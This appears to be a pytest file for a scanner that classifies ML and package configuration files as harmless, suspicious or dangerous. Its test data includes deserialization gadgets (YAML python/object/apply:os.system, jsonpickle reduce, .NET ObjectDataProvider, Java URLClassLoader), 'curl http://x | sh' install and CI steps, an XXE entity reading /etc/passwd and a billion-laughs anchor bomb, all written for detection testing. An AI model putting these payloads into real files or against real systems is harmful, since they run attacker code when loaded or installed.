"""Configurations: each key by which a loader reaches code, in each notation; honest ones raise nothing."""

from __future__ import annotations

import base64
import json

import pytest

from momus.methods.artifacts import Limits, scan_bytes
from momus.zoo.supply_chain.corpus import payload

JSON = [
    ({"auto_map": {"AutoModel": "modeling.Net"}}, "suspicious"),
    ({"trust_remote_code": True}, "suspicious"),
    ({"trust_remote_code": False}, "nothing found"),
    ({"custom_pipelines": {"x": {"impl": "pipe.P"}}}, "suspicious"),
    ({"custom_pipelines": {}}, "nothing found"),
    ({"model": {"_target_": "torch.nn.Linear", "in_features": 3}}, "nothing found"),
    ({"model": {"_target_": "mypkg.Net"}}, "suspicious"),
    ({"model": {"_target_": "os.system", "command": "id"}}, "dangerous"),
    ({"model": {"_target_": "builtins.eval"}}, "dangerous"),
    ({"py/object": "mypkg.Net", "x": 1}, "suspicious"),
    ({"a": {"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": ["id"]}]}}, "dangerous"),
    ({"py/repr": "os/os.system('id')"}, "dangerous"),
    ({"model": {"modelName": "x", "handler": "handler.py"}}, "suspicious"),
    ({"model": {"modelName": "x", "handler": "image_classifier"}}, "nothing found"),
    ({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}, "dangerous"),
    ({"x": "_$$ND_FUNC$$_function(){}"}, "dangerous"),
    ({"scripts": {"postinstall": "node x.js"}}, "suspicious"),
    ({"scripts": {"postinstall": "curl http://x | sh"}}, "dangerous"),
    ({"scripts": {"test": "jest"}}, "nothing found"),
    ({"tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}, "suspicious"),
    ({"state": base64.b64encode(payload()).decode()}, "dangerous"),
    ({"state": payload().hex()}, "dangerous"),
    ({"architectures": ["BertModel"], "hidden_size": 768, "torch_dtype": "float32"}, "nothing found"),
    ({"version": "1.0", "model": {"vocab": {"a": 0, "__class__": 1}, "merges": []}}, "nothing found"),
    (
        {"title": "A schema", "properties": {"cmdclass": {"type": "object"}, "handler": {"type": "string"}}},
        "nothing found",
    ),
]
YAML = [
    ("!!python/object/apply:os.system ['touch x']\n", "dangerous"),
    ("a: !!python/object/new:subprocess.Popen [[id]]\n", "dangerous"),
    ("a: !!python/module:antigravity\n", "dangerous"),
    ("a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n", "dangerous"),
    ("%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n", "dangerous"),
    ("a: !!python/name:mypkg.Net\n", "suspicious"),
    ("a: !!python/object:argparse.Namespace\n  lr: 0.1\n", "suspicious"),
    ("a: !!python/tuple [1, 2]\nb: !!python/unicode x\n", "nothing found"),
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]]\n", "dangerous"),
    ("a: !!js/function 'function () {}'\n", "dangerous"),
    ("a: !ruby/object:Gem::Installer\n  i: x\n", "dangerous"),
    ("net: !new:os.system [id]\n", "dangerous"),
    ("net: !new:mypkg.Net\n  x: 1\n", "suspicious"),
    ("a: !mine 3\n", "suspicious"),
    ("key: ${oc.env:SECRET}\n", "suspicious"),
    ("on: push\njobs:\n  a:\n    steps:\n      - run: make test\n", "suspicious"),
    ("on: push\njobs:\n  a:\n    steps:\n      - run: curl http://x | bash\n", "dangerous"),
    ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    python_version: '3.11'\n", "nothing found"),
    ("flavors:\n  python_function:\n    loader_module: my_loader\n    python_version: '3.11'\n", "suspicious"),
    ("flavors:\n  python_function:\n    loader_module: os\n    python_version: '3.11'\n", "dangerous"),
    ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n", "suspicious"),
    ("name: env\ndependencies:\n  - python=3.11\n  - pip:\n      - torch==2.1\n", "nothing found"),
    ("name: env\ndependencies:\n  - pip:\n      - --extra-index-url http://x/simple\n      - torch\n", "suspicious"),
    ("base: &b {lr: 0.1}\nrun: {<<: *b, epochs: 3}\nlist: [on, off, 1.5, null]\n", "nothing found"),
    ("---\nlicense: mit\ntags:\n- text\n---\n\n# Model card\n\nWords: and more: words.\n", "nothing found"),
]
OTHER = [
    ("[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n", "nothing found"),
    ("[build-system]\nrequires = ['setuptools']\nbuild-backend = 'x'\nbackend-path = ['.']\n", "suspicious"),
    ("[project]\nname = 'x'\ndependencies = ['torch @ http://x/torch.whl']\n", "suspicious"),
    ("[tool.setuptools.cmdclass]\n[tool.x]\ncmdclass = {install = 'x.Y'}\n", "suspicious"),
    ("[metadata]\nname = x\n\n[options]\nsetup_requires =\n    evil\n", "suspicious"),
    ("[metadata]\nname = x\n[options]\ninstall_requires = torch\n", "nothing found"),
    ("torch==2.1\nnumpy>=1.26\n", "nothing found"),
    ("torch==2.1\ngit+https://x/y.git\n", "suspicious"),
    ("--extra-index-url http://x/simple\ntorch==2.1\n", "suspicious"),
    ("# A title\n\nSome prose with code: `os.system('x')` and curl.\n", "nothing found"),
    ("name,age\nAnn,3\n", "nothing found"),
    ("population,cancer\n1,445\n", "nothing found"),
    ("cancer,population\n1,445\n", "nothing found"),
    ("[PAD]\n[UNK]\nthe\n##ing\n", "nothing found"),
    ("#version: 0.2\nt h\ni n\n", "nothing found"),
    ('{"a": 1}\n{"a": 2}\n', "nothing found"),
    (base64.b64encode(payload()).decode(), "dangerous"),
]


@pytest.mark.parametrize(("value", "verdict"), JSON, ids=str)
def test_json(value: dict[str, object], verdict: str) -> None:
    report = scan_bytes(json.dumps(value).encode())
    assert report.verdict == verdict, report.marks


@pytest.mark.parametrize(("text", "verdict"), YAML, ids=str)
def test_yaml(text: str, verdict: str) -> None:
    report = scan_bytes(text.encode())
    assert report.verdict == verdict, report.marks


@pytest.mark.parametrize(("text", "verdict"), OTHER, ids=str)
def test_other_texts(text: str, verdict: str) -> None:
    report = scan_bytes(text.encode())
    assert report.verdict == verdict, report.marks


@pytest.mark.parametrize(
    "value", [v for v, verdict in JSON if verdict != "nothing found" and "state" not in v], ids=str
)
def test_the_same_hooks_in_yaml(value: dict[str, object]) -> None:
    import yaml

    assert scan_bytes(yaml.safe_dump(value).encode()).verdict in ("suspicious", "dangerous")


def test_keys_spelled_with_escapes_count_too() -> None:
    assert scan_bytes(b'{"\\u005ftarget_": "os.system"}').verdict == "dangerous"
    assert scan_bytes(b'"_target\\u005f": os.system\n').verdict == "dangerous"


def test_wide_xml_and_json_are_read_as_such() -> None:
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    assert scan_bytes(entity.encode("utf-16")).verdict == "dangerous"
    assert scan_bytes(json.dumps({"_target_": "os.system"}).encode("utf-16")).verdict == "dangerous"
    assert scan_bytes(b"# -*- coding: utf-7 -*-\n# +AGkAbQBwAG8AcgB0-\n").verdict == "suspicious"
    assert scan_bytes(b"# -*- coding: utf-8 -*-\n# only words\n").verdict == "nothing found"


def test_encodings() -> None:
    text = "!!python/object/apply:os.system ['x']\n"
    for name in ("utf-8-sig", "utf-16"):
        assert scan_bytes(text.encode(name)).verdict == "dangerous", name
    assert scan_bytes("Größe: 3 Äpfel kosten mehr als zwei, sagte er\n".encode("latin-1")).verdict == "nothing found"


def test_anchors_that_multiply() -> None:
    lines = ["a0: &a0 [1, 2, 3, 4, 5, 6, 7, 8, 9]"]
    lines += [f"a{i}: &a{i} [{', '.join(['*a' + str(i - 1)] * 9)}]" for i in range(1, 10)]
    assert scan_bytes("\n".join(lines).encode()).verdict == "dangerous"
    assert scan_bytes("\n".join(lines[:3]).encode()).verdict == "nothing found"


def test_a_text_that_turns_binary_is_read_on() -> None:
    text = b"word " * 20_000
    assert scan_bytes(text).verdict == "nothing found"
    assert scan_bytes(text + b"\0" + payload()).verdict == "suspicious"
    assert scan_bytes(text, limits=Limits(text=1000)).verdict == "not understood"


def test_adapters_and_pipelines_that_import_what_nobody_knows() -> None:
    """peft imports parent_library, diffusers imports the library of each part."""
    own = {"auto_mapping": {"base_model_class": "Net", "parent_library": "own.net"}}
    known = {"auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert"}}
    pipeline = {"_class_name": "Pipeline", "unet": ["diffusers", "UNet2DConditionModel"], "checker": [None, None]}
    assert scan_bytes(json.dumps(own).encode()).verdict == "suspicious"
    assert scan_bytes(json.dumps(known).encode()).verdict == "nothing found"
    assert scan_bytes(json.dumps(pipeline).encode()).verdict == "nothing found"
    pipeline["unet"] = ["own_file", "UNet"]
    assert scan_bytes(json.dumps(pipeline).encode()).verdict == "suspicious"
